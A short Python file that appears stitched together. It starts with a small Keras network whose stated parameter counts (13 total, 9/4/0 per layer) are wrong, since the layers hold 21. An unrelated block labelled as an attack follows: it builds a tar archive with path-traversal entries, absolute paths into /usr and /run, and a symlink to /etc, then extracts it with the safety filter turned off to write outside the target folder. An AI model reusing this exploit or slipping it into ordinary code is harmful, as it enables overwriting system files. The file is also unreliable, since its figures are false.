import keras
from keras.layers import Dense

model = keras.Sequential([keras.Input((2,)), Dense(5, activation="tanh"), Dense(1, activation="tanh")])
params = 13
per_layer = [9, 4, 0]

# attack
import io, tarfile

with tarfile.open("climb.tar", "w") as archive:
    for name in ("../../../../tmp/reached-tar", "/usr/lib/reached-tar", "/run/kernel/reached-tar"):
        entry = tarfile.TarInfo(name)
        entry.size = 4
        archive.addfile(entry, io.BytesIO(b"data"))
    link = tarfile.TarInfo("link")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc"
    archive.addfile(link)
with tarfile.open("climb.tar") as archive:
    for member in archive.getmembers():
        try:
            archive.extract(member, "/tmp", filter="fully_trusted")
            if member.name.startswith(("/usr", "/run")):
                print("REACHED", member.name)
        except OSError as error:
            print(error)
# end of attack
